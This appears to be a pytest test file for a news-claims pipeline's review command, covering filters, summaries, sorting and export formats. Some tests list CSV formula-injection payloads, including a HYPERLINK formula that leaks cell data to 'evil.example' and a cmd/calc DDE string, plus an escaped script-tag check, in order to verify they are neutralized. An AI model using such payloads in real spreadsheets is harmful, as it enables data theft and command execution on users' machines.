"""review: filters, summaries, sorting and output formats on the hand-made fixture run.

The fixture (tests/fixtures/run, built by build_fixture.py) has 7 claims with known contents:
arms   Kremlin (RUSGOV, speaker) claimed a $8bn deal with Tehran (IRNGOV, object), Monday 2016-12-12, hedged
s300   Iranian officials (IRNGOV, speaker+subject) did not receive S-300s in 2016, negated
trade  Russian official media (RUSMED): trade may have risen 71 percent in 2016-H1, hedged
eu     European Commission announced EUR 2.5bn for Syria on 2017-03-02
de     Germany (DEU, speaker+subject) would add EUR 500m by 2018
hez    Hezbollah (speaker, other) deployed up to 10,000 fighters in 2015
beirut Officials in Beirut (LBNGOV, subject) paid $800m (no date)
"""

from __future__ import annotations

import io as stdio
import json

import pandas as pd
import pytest
from typer.testing import CliRunner

from pipeline.cli import app
from pipeline.errors import ClaimsError
from pipeline.stages.review import (compact_amount, date_bucket, filter_claims, load_records, parse_day, review,
                                    review_frame)
from tests.conftest import FIXTURES

RUN = FIXTURES / "run"
IDS = {
    "arms": "kremlin-arms-deal.txt:claim:35-87",
    "s300": "kremlin-arms-deal.txt:claim:113-176",
    "trade": "kremlin-arms-deal.txt:claim:216-286",
    "eu": "eu-aid.md:claim:0-79",
    "de": "eu-aid.md:claim:95-128",
    "hez": "scraped-beirut.html:claim:15-70",
    "beirut": "scraped-beirut.html:claim:106-156",
}
ALL = list(IDS)


@pytest.fixture(scope="module")
def claims():
    return load_records(RUN)[2]


@pytest.mark.parametrize("filters, expected", [
    ({}, ALL),
    ({"actor": "RUSGOV"}, ["arms"]),
    ({"actor": "rusgov"}, ["arms"]),
    ({"actor": "Kremlin"}, ["arms"]),
    ({"actor": "Iran"}, ["arms", "s300"]),
    ({"actor": "RUS"}, []),  # an id must match whole, not as a prefix of RUSGOV/RUSMED or "Russian"
    ({"actor": "IRNGOV", "role": "object"}, ["arms"]),
    ({"actor": "IRNGOV", "role": "speaker"}, ["s300"]),
    ({"actor": "hezbollah", "role": "other"}, ["hez"]),
    ({"actor": "DEU", "role": "speaker"}, ["de"]),
    ({"kind": "money"}, ["arms", "eu", "de", "beirut"]),
    ({"kind": "percent"}, ["trade"]),
    ({"kind": "quantity"}, ["hez"]),
    ({"kind": "date"}, ["arms", "s300", "trade", "eu", "de", "hez"]),
    ({"currency": "USD"}, ["arms", "beirut"]),
    ({"currency": "eur"}, ["eu", "de"]),
    ({"min_amount": 1e9}, ["arms", "eu"]),
    ({"min_amount": 1e10}, []),
    ({"currency": "EUR", "min_amount": 1e9}, ["eu"]),
    ({"currency": "USD", "min_amount": 1e9}, ["arms"]),
    ({"since": "2016-01-01", "until": "2016-12-31"}, ["arms", "s300", "trade"]),
    ({"since": "2016-07", "until": "2016-11"}, ["s300"]),  # only the whole-year 2016 overlaps
    ({"since": "2017"}, ["eu", "de"]),
    ({"until": "2015"}, ["hez"]),
    ({"doc": "eu-aid.md"}, ["eu", "de"]),
    ({"hedged": True}, ["arms", "trade"]),
    ({"hedged": False}, ["s300", "eu", "de", "hez", "beirut"]),
    ({"negated": True}, ["s300"]),
    ({"text": "ARMS DEAL"}, ["arms"]),
    ({"kind": "money", "hedged": False}, ["eu", "de", "beirut"]),
    ({"actor": "Hezbollah", "since": "2015", "until": "2015"}, ["hez"]),
])
def test_filter_claims_known_answers(claims, filters, expected):
    got = [c["claim_id"] for c in filter_claims(claims, **filters)]
    assert got == [IDS[k] for k in expected]


@pytest.mark.parametrize("filters, message", [
    ({"role": "speaker"}, "--role needs --actor"),
    ({"actor": "X", "role": "boss"}, "unknown role"),
    ({"kind": "money-ish"}, "unknown kind"),
    ({"since": "last year"}, "not a date"),
])
def test_filter_claims_rejects_bad_options(claims, filters, message):
    with pytest.raises(ClaimsError, match=message):
        filter_claims(claims, **filters)


@pytest.mark.parametrize("value, end, expected", [
    ("2016", False, "2016-01-01"), ("2016", True, "2016-12-31"), ("2016-02", True, "2016-02-29"),
    ("2015-02", True, "2015-02-28"), ("2016-07-04", True, "2016-07-04"), (None, False, None),
])
def test_parse_day_bounds(value, end, expected):
    assert parse_day(value, end=end) == expected


@pytest.mark.parametrize("earliest, latest, expected", [
    ("2016-12-12", "2016-12-12", "2016-12"), ("2016-01-01", "2016-06-30", "2016"),
    ("1996-01-01", "2008-12-31", "1996..2008"), ("2013-01-01", None, "2013-01.."), (None, None, None),
])
def test_date_bucket_granularity(earliest, latest, expected):
    assert date_bucket(earliest, latest) == expected


@pytest.mark.parametrize("value, expected", [
    (8e9, "8bn"), (2.5e9, "2.5bn"), (8e8, "800m"), (71.0, "71"), (1500, "1.5k"), (None, ""), (float("nan"), ""),
])
def test_compact_amount_format(value, expected):
    assert compact_amount(value) == expected


def _summary(by, **filters):
    df, *_ = review_frame(RUN, by=by, **filters)
    return df


def test_summary_by_currency_sums_and_bounds():
    df = _summary("currency").set_index("currency")
    assert list(df.index) == ["EUR", "USD"]
    assert df.loc["USD", "claims"] == 2 and df.loc["USD", "sum"] == pytest.approx(8.8e9)
    assert (df.loc["USD", "min"], df.loc["USD", "max"]) == (8e8, 8e9)
    assert df.loc["EUR", "sum"] == pytest.approx(3.0e9) and df.loc["EUR", "docs"] == 1
    assert (df.loc["EUR", "earliest"], df.loc["EUR", "latest"]) == ("2017-03-02", "2018-12-31")


def test_summary_by_doc_counts_and_sums():
    df = _summary("doc").set_index("doc_id")
    assert df["claims"].to_dict() == {"eu-aid.md": 2, "kremlin-arms-deal.txt": 3, "scraped-beirut.html": 2}
    assert df.loc["kremlin-arms-deal.txt", "sum_USD"] == 8e9 and df.loc["kremlin-arms-deal.txt", "sum_EUR"] == 0
    assert df.loc["eu-aid.md", "sum_EUR"] == pytest.approx(3e9)
    assert df.loc["kremlin-arms-deal.txt", "earliest"] == "2016-01-01"
    assert df.loc["scraped-beirut.html", "title"] == "Scraped page <b>with</b> markup"


def test_summary_by_actor_counts_each_claim_once():
    df = _summary("actor").set_index("actor")
    assert df.loc["IRNGOV", "claims"] == 2 and df.loc["IRNGOV", "as_speaker"] == 1
    assert df.loc["hezbollah", "claims"] == 1  # two Hezbollah mentions in one claim
    assert df.loc["RUSGOV", "name"] == "Government of Russia" and df.loc["RUSGOV", "sum_USD"] == 8e9
    assert df.index[0] == "IRNGOV"  # most claims first
    assert len(df) == 8


def test_summary_by_month_buckets_and_undated_last():
    df = _summary("month")
    assert list(df["month"]) == ["2015", "2016", "2016-12", "2017-03", "2018", "undated"]
    assert list(df["claims"]) == [1, 2, 1, 1, 1, 1]
    assert df.set_index("month").loc["undated", "sum_USD"] == 8e8


def test_summary_respects_filters():
    df = _summary("currency", doc="eu-aid.md")
    assert list(df["currency"]) == ["EUR"]


@pytest.mark.parametrize("sort, expected", [
    ("-amount", ["arms", "eu", "beirut", "de", "s300", "trade", "hez"]),
    ("date", ["hez", "s300", "trade", "arms", "eu", "de", "beirut"]),
    ("doc", ["eu", "de", "arms", "s300", "trade", "hez", "beirut"]),
    ("-confidence", ["arms", "s300", "trade", "de", "hez", "eu", "beirut"]),
])
def test_review_frame_sort(sort, expected):
    df, *_ = review_frame(RUN, sort=sort)
    assert list(df["claim_id"]) == [IDS[k] for k in expected]


def test_review_frame_limit_and_bad_sort():
    df, *_ = review_frame(RUN, sort="-amount", limit=2)
    assert list(df["claim_id"]) == [IDS["arms"], IDS["eu"]]
    with pytest.raises(ClaimsError, match="cannot sort by"):
        review_frame(RUN, sort="colour")


def test_review_table_shows_readable_columns():
    out = review(RUN, min_amount=1e9)
    header = out.splitlines()[0].split()
    assert header == ["claim", "speaker", "stance", "actors", "amounts", "dates", "doc", "offsets"]
    assert "8bn USD" in out and "2.5bn EUR" in out and "RUSGOV:speaker" in out and "35-87" in out
    assert len(out.splitlines()) == 3
    assert review(RUN, actor="nobody") == "no claims match\n"


def test_review_csv_is_flat_with_joined_lists():
    df = pd.read_csv(stdio.StringIO(review(RUN, fmt="csv", actor="RUSGOV")))
    row = df.iloc[0]
    assert row["actor_ids"] == "RUSGOV; IRNGOV" and row["money_currencies"] == "USD"
    assert bool(row["modality.hedged"]) is True and row["predicate.lemma"] == "conclude"
    assert not any(str(v).startswith(("{", "[")) for v in row.values)


def test_review_jsonl_keeps_lists():
    lines = review(RUN, fmt="jsonl", currency="EUR").splitlines()
    records = [json.loads(line) for line in lines]
    assert [r["claim_id"] for r in records] == [IDS["eu"], IDS["de"]]
    assert records[0]["money_amounts"] == [2.5e9] and records[0]["cue.text"] is None
    assert all(not isinstance(v, dict) for r in records for v in r.values())


def test_review_parquet_round_trip(tmp_path):
    out = tmp_path / "claims.parquet"
    message = review(RUN, fmt="parquet", out=out)
    assert message.startswith("wrote 7 claims")
    df = pd.read_parquet(out)
    assert len(df) == 7 and list(df.loc[0, "actor_ids"]) == ["RUSGOV", "IRNGOV"]
    with pytest.raises(ClaimsError, match="needs --out"):
        review(RUN, fmt="parquet")


def test_review_out_file_and_html(tmp_path):
    out, html = tmp_path / "s.csv", tmp_path / "r.html"
    message = review(RUN, by="currency", fmt="csv", out=out, html=html)
    assert "wrote 2 rows" in message and "HTML report" in message
    assert out.read_text(encoding="utf-8").startswith("currency,claims")
    page = html.read_text(encoding="utf-8")
    assert "&lt;script&gt;window.__pwned=1&lt;/script&gt;" in page and "<script>window.__pwned" not in page


def test_review_html_with_filter_keeps_only_matching_documents(tmp_path):
    html = tmp_path / "r.html"
    review(RUN, currency="EUR", html=html)
    page = html.read_text(encoding="utf-8")
    assert 'data-doc="eu-aid.md"' in page and 'id="d-' in page
    assert "Kremlin claims" not in page


def test_review_missing_run_is_clear_error(tmp_path):
    with pytest.raises(ClaimsError, match="claims.jsonl not found"):
        review(tmp_path)


runner = CliRunner()


@pytest.mark.parametrize("args, expected", [
    (["--actor", "Kremlin"], ["35-87"]),
    (["--kind", "money", "--not-hedged", "--sort", "-amount", "--limit", "1"], ["0-79"]),
    (["--since", "2016", "--until", "2016", "--negated"], ["113-176"]),
    (["--currency", "USD", "--min-amount", "1e9"], ["35-87"]),
])
def test_cli_review_filters(args, expected):
    result = runner.invoke(app, ["review", str(RUN), *args])
    assert result.exit_code == 0, result.output
    rows = result.output.splitlines()[1:]
    assert [r.split()[-1] for r in rows] == expected


def test_cli_review_summary_csv_and_errors(tmp_path):
    result = runner.invoke(app, ["review", str(RUN), "--by", "currency", "--format", "csv"])
    assert result.exit_code == 0
    assert result.output.splitlines()[0] == "currency,claims,docs,mentions,sum,min,max,earliest,latest"
    bad = runner.invoke(app, ["review", str(RUN), "--format", "xml"])
    assert bad.exit_code == 1 and "unknown format 'xml'" in bad.output
    bad_by = runner.invoke(app, ["review", str(RUN), "--by", "planet"])
    assert bad_by.exit_code == 1 and "unknown summary" in bad_by.output
    html = tmp_path / "report.html"
    ok = runner.invoke(app, ["review", str(RUN), "--html", str(html), "--limit", "2"])
    assert ok.exit_code == 0 and html.is_file() and "wrote HTML report (1 documents, 2 claims)" in ok.output


@pytest.mark.parametrize("bad", ["2016-13-01", "2016-02-30", "2016-00"])
def test_parse_day_rejects_impossible_dates(bad):
    from pipeline.stages.review import parse_day

    with pytest.raises(ClaimsError, match="no such month or day"):
        parse_day(bad, end=False)


@pytest.mark.parametrize("filters", [f for f, _ in [
    ({}, 0), ({"actor": "Kremlin"}, 0), ({"actor": "Iran"}, 0), ({"actor": "RUS"}, 0),
    ({"actor": "IRNGOV", "role": "speaker"}, 0), ({"actor": "hezbollah", "role": "other"}, 0),
    ({"actor": "officials in"}, 0), ({"actor": "beirut"}, 0), ({"kind": "quantity"}, 0),
    ({"currency": "eur", "min_amount": 1e9}, 0), ({"since": "2016-07", "until": "2016-11"}, 0),
    ({"until": "2015"}, 0), ({"hedged": False, "kind": "money"}, 0), ({"negated": True}, 0),
    ({"text": "ARMS DEAL"}, 0), ({"doc": "eu-aid.md"}, 0),
]])
def test_filter_sql_agrees_with_python_filter(claims, filters):
    from pipeline.query import open_run
    from pipeline.stages.review import filter_sql, order_sql

    with open_run(RUN) as ix:
        got = [c["claim_id"] for batch in ix.raw_batches(filter_sql(**filters), order_sql(None)) for c in batch]
    assert got == [c["claim_id"] for c in filter_claims(claims, **filters)]


def test_summaries_sql_agree_with_python(claims):
    from pipeline.query import open_run
    from pipeline.stages.review import filter_sql, summarize, summarize_index

    documents = load_records(RUN)[0]
    with open_run(RUN) as ix:
        for by in ("actor", "doc", "month", "currency"):
            for filters in ({}, {"currency": "USD"}, {"since": "2016"}):
                sql = summarize_index(ix, by, filter_sql(**filters))
                py = summarize(filter_claims(claims, **filters), by, documents)
                pd.testing.assert_frame_equal(sql, py, check_dtype=False)


def test_load_run_lazy_relation():
    from pipeline.api import load_run

    with load_run(RUN, lazy=True) as run:
        rel = run.claims.filter("speaker_id = 'RUSGOV'")
        assert rel.df()["claim_id"].tolist() == [IDS["arms"]]
        assert run.count() == 7


def test_filter_actor_matches_cameo_code_of_named_body(tmp_path):
    """A named body with an id of its own (``tass``) keeps its CAMEO code in ``norm.role``:
    ``--actor RUSMED`` finds it, in the Python filter and in the SQL index alike."""
    import shutil

    from pipeline.query import open_run
    from pipeline.stages.review import filter_sql, order_sql

    run = tmp_path / "run"
    shutil.copytree(RUN, run, ignore=shutil.ignore_patterns("cache"))
    old = '"norm": {"actor_id": "RUSMED", "name": "Russian media"'
    new = '"norm": {"role": "RUSMED", "actor_id": "tass", "name": "TASS"'
    path = run / "claims.jsonl"
    assert old in path.read_text(encoding="utf-8")
    path.write_text(path.read_text(encoding="utf-8").replace(old, new), encoding="utf-8")
    claims = load_records(run)[2]
    for query in ("RUSMED", "rusmed", "tass"):
        assert [c["claim_id"] for c in filter_claims(claims, actor=query)] == [IDS["trade"]]
        with open_run(run) as ix:
            got = [c["claim_id"] for b in ix.raw_batches(filter_sql(actor=query), order_sql(None)) for c in b]
        assert got == [IDS["trade"]]
    assert filter_claims(claims, actor="RUS") == []  # a code matches whole, not as a prefix


FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3",
            "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "\uff1d1+1"]


def _hostile_run(tmp_path):
    """The fixture run with formula-like doc ids and claim texts (as an article could hold)."""
    import shutil

    run = tmp_path / "run"
    shutil.copytree(RUN, run)
    claims = [json.loads(line) for line in (run / "claims.jsonl").read_text(encoding="utf-8").splitlines()]
    for claim, formula in zip(claims, FORMULAS):
        claim["text"] = formula
        claim["claim_id"] = formula + ":claim"
    (run / "claims.jsonl").write_text("".join(json.dumps(c, ensure_ascii=False) + "\n" for c in claims),
                                      encoding="utf-8")
    return run, claims


def test_review_csv_neutralizes_formula_cells(tmp_path):
    import csv

    run, claims = _hostile_run(tmp_path)
    rows = list(csv.reader(stdio.StringIO(review(run, fmt="csv"), newline="")))
    cells = [cell for row in rows for cell in row]
    triggers = ("=", "+", "-", "@", "\t", "\r", "\uff1d")
    assert not [c for c in cells if c.startswith(triggers)]
    header = rows[0]
    texts = {row[header.index("claim_id")]: row[header.index("text")] for row in rows[1:]}
    for formula in FORMULAS[:len(claims)]:
        assert texts["'" + formula + ":claim"] == "'" + formula  # shown as text, nothing lost
    # plain text and numbers are left alone
    assert any(c == "iran-russia-uneasy.txt" or c.endswith(".txt") for c in cells)


def test_review_csv_keeps_negative_numbers_numeric():
    from pipeline.stages.review import to_csv

    df = pd.DataFrame({"amount": [-5.0, 3.0], "text": ["-5 percent", "fell"]})
    assert to_csv(df) == "amount,text\r\n-5.0,'-5 percent\r\n3.0,fell\r\n"


def test_review_jsonl_and_parquet_stay_exact(tmp_path):
    run, claims = _hostile_run(tmp_path)
    lines = [json.loads(line) for line in review(run, fmt="jsonl").splitlines()]
    assert {row["text"] for row in lines} >= set(FORMULAS[:len(claims)])
    pytest.importorskip("pyarrow")
    out = tmp_path / "c.parquet"
    review(run, fmt="parquet", out=out)
    assert set(pd.read_parquet(out)["text"]) >= set(FORMULAS[:len(claims)])


def test_review_and_load_run_refuse_a_folder_whose_files_disagree(tmp_path):
    from pipeline import io
    from pipeline.api import load_run
    from pipeline.stages.ingest import ingest

    out = tmp_path / "run"
    with io.Generation(out) as gen:  # the fixture run, committed as a run would commit it
        for name, made_from in ((io.DOCUMENTS, ()), (io.MENTIONS, (io.DOCUMENTS,)),
                                (io.CLAIMS, (io.DOCUMENTS, io.MENTIONS))):
            gen.writer(name, made_from).write_many(json.loads(line) for line in
                                                   (RUN / name).read_text(encoding="utf-8").splitlines())
    assert "claim_id" in review(out, fmt="csv")
    src = tmp_path / "a.txt"
    src.write_text("Iran said on Monday it had received $8 billion.", encoding="utf-8")
    ingest([src], out)  # new documents; the mentions and claims are those of the old ones
    with pytest.raises(ClaimsError, match=r"claims.jsonl was made from another version of documents.jsonl "
                                          r"\(run `claims extract`\)"):
        review(out)
    with pytest.raises(ClaimsError, match="do not belong together"):
        load_run(out)
    assert len(load_run(out, check=False).documents) == 1


# ------------------------------------------------------------------ big selections: streamed output, bounded table
def test_review_csv_and_jsonl_to_a_stream_go_batch_by_batch(monkeypatch):
    """CSV/JSONL to stdout are written batch by batch, never one frame of the whole selection."""
    import pipeline.query as query
    import pipeline.stages.review as review_module

    whole = {fmt: review(RUN, fmt=fmt) for fmt in ("csv", "jsonl")}
    sizes: list[int] = []
    frame = review_module.claims_frame
    monkeypatch.setattr(query, "BATCH", 2)
    monkeypatch.setattr(review_module, "claims_frame", lambda batch: sizes.append(len(batch)) or frame(batch))
    for fmt in ("csv", "jsonl"):
        sizes.clear()
        buf = stdio.StringIO()
        assert review(RUN, fmt=fmt, stream=buf) == ""
        assert buf.getvalue() == whole[fmt]
        assert sizes == [2, 2, 2, 1]
    empty = stdio.StringIO()
    review(RUN, fmt="csv", doc="nothing-here", stream=empty)
    assert empty.getvalue().startswith("claim_id,") and len(empty.getvalue().splitlines()) == 1


def test_review_cli_csv_on_stdout_is_the_streamed_data():
    result = runner.invoke(app, ["review", str(RUN), "--format", "csv", "--sort", "-amount"])
    assert result.exit_code == 0
    assert result.stdout_bytes.decode("utf-8") == review(RUN, fmt="csv", sort="-amount")


def test_review_table_has_a_default_limit_with_a_note(monkeypatch):
    import pipeline.stages.review as review_module

    monkeypatch.setattr(review_module, "TABLE_LIMIT", 3)
    shown = review(RUN)
    assert shown.count("kremlin") + shown.count("eu-aid") + shown.count("beirut") >= 3
    assert shown.rstrip().endswith("… 4 more claims not shown (of 7; --limit N shows more, --format csv or --out FILE "
                                   "gives them all)")
    assert "not shown" not in review(RUN, limit=5) and "not shown" not in review(RUN, limit=3)
    assert "not shown" not in review(RUN, doc="eu-aid.md")  # 2 claims: all shown
    assert len(review(RUN, fmt="csv").splitlines()) == 8    # data formats are never cut
    summary = review(RUN, by="actor")
    assert "more rows not shown" in summary and len(summary.splitlines()) == 1 + 3 + 1


def test_cli_network_out_dash_writes_to_stdout(tmp_path):
    import networkx as nx

    cwd = tmp_path / "cwd"
    cwd.mkdir()
    result = runner.invoke(app, ["network", str(RUN), "--out", "-"], catch_exceptions=False)
    assert result.exit_code == 0
    graph = nx.parse_graphml(result.stdout)
    assert graph.number_of_nodes() >= 2
    assert "-> stdout" in result.stderr and "-> stdout" not in result.stdout
    statements = runner.invoke(app, ["network", str(RUN), "--format", "csv", "-o", "-"])
    assert statements.stdout.startswith("date,speaker,speaker_name,target")
    assert not (RUN / "-").exists() and not (cwd / "-").exists()


def test_an_open_index_keeps_reading_its_generation_when_a_new_run_commits(tmp_path):
    """The claims index and the documents and mentions read through it come from one generation,
    resolved when the run is opened: a run that commits meanwhile is not mixed in."""
    from pipeline import query
    from pipeline.stages.run import run

    src, out = tmp_path / "in", tmp_path / "out"
    src.mkdir()
    (src / "a.txt").write_text("Russia signed an $800 million contract with Iran in 2007, officials said.",
                               encoding="utf-8")
    run([src], out)
    ix = query.open_run(out)
    (src / "b.txt").write_text("The Kremlin announced on Monday it would deliver S-300 systems.", encoding="utf-8")
    run([src], out)  # a new generation becomes current
    both = ["a.txt", "b.txt"]
    assert {d["doc_id"] for d in query.read_documents(ix.run_dir, ix.con, both)} == {"a.txt"}
    now = query.open_run(out)
    assert {d["doc_id"] for d in query.read_documents(now.run_dir, now.con, both)} == set(both)
